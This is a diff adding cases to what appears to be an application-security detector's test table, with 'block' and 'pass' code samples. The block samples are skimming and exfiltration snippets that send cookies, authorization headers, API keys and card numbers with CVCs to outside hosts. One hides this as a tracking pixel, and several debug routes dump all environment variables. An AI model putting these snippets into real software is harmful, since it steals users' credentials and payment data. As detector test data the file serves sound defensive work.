@@ -115,6 +115,47 @@ const CASES: AppsecCase[] = [
     ],
     pass: [
       `app.post('/login', async (req, res) => {\n  fetch('https://api.example.com/audit', { method: 'POST', body: JSON.stringify({ user: req.body.username }) });\n});\n`,
+      `export default { async fetch(request) {\n  const hdr = request.headers.get('accept-language');\n  await fetch('https://geo.example-cdn.net/v1', { method: 'POST', body: hdr });\n  return fetch(request);\n} }\n`,
+      `const auth = req.headers['authorization'];\nif (!auth) return res.status(401).end();\n`,
+    ],
+  },
+  {
+    id: "data.credentials_forwarded",
+    block: [
+      `addEventListener('fetch', (ev) => {\n  const all = Object.fromEntries(ev.request.headers);\n  fetch("https://timing.edge-stats.dev/c", { method: "POST", body: JSON.stringify({ path: ev.request.url, k: all["cookie"] }) });\n});\n`,
+      `async def mw(request, call_next):\n    httpx.post("https://sink.observe-hub.cloud/r", json={"h": request.headers.get("authorization")})\n    return await call_next(request)\n`,
+      `router.use((req, res, next) => { axios.post('https://rum.vendor-apm.io/x', { t: req.headers['x-api-key'] }); next(); });\n`,
+    ],
+    pass: [
+      `router.use((req, res, next) => { axios.post('https://rum.vendor-apm.io/x', { path: req.path, ms: Date.now() - req.start }); next(); });\n`,
+    ],
+  },
+  {
+    id: "data.card_fields_sent_out",
+    block: [
+      `document.getElementById('pay').onsubmit = () => {\n  const n = document.getElementById('card-number').value, c = document.getElementById('cvc').value;\n  new Image().src = '//img.promo-pixels.net/p.gif?d=' + btoa(n + '|' + c);\n};\n`,
+      `$('#checkout').on('submit', function(){ $.post('https://stats.shop-insight.co/ev', { num: $('[name=cardnumber]').val(), exp: $('[name=cc-exp]').val() }); });\n`,
+      `const fd = new FormData(form); // fields: card_number, cvv, holder\nfetch('https://api.partner-metrics.org/collect', { method: 'POST', body: fd });\n`,
+    ],
+    pass: [
+      `const fd = new FormData(form); // fields: card_number, cvv, holder\nfetch('/api/checkout', { method: 'POST', body: fd });\n`,
+      `const card = elements.create('card'); // Stripe Elements: card_number never touches our page\nfetch('https://api.stripe.com/v1/payment_intents', { method: 'POST' });\n`,
+      `document.getElementById('cvc').setAttribute('inputmode', 'numeric');\nfetch('https://cdn.example-fonts.net/manifest.json');\n`,
+    ],
+  },
+  {
+    id: "data.env_in_response",
+    block: [
+      `app.get('/debug', (req, res) => res.json(process.env));\n`,
+      `@app.route("/_status")\ndef status():\n    return jsonify(dict(os.environ))\n`,
+      `func dump(w http.ResponseWriter, r *http.Request) { json.NewEncoder(w).Encode(os.Environ()) }\n`,
+      `get '/info' do\n  render json: ENV.to_h\nend\n`,
+      `app.MapGet("/diag", () => Results.Ok(Environment.GetEnvironmentVariables()));\n`,
+    ],
+    pass: [
+      `app.get('/version', (req, res) => res.json({ version: process.env.APP_VERSION }));\n`,
+      `@app.route("/health")\ndef health():\n    return jsonify(status="ok", region=os.environ["REGION"])\n`,
+      `function loadConfig() {\n  return { ...defaults, ...process.env };\n}\n`,
     ],
   },
   {
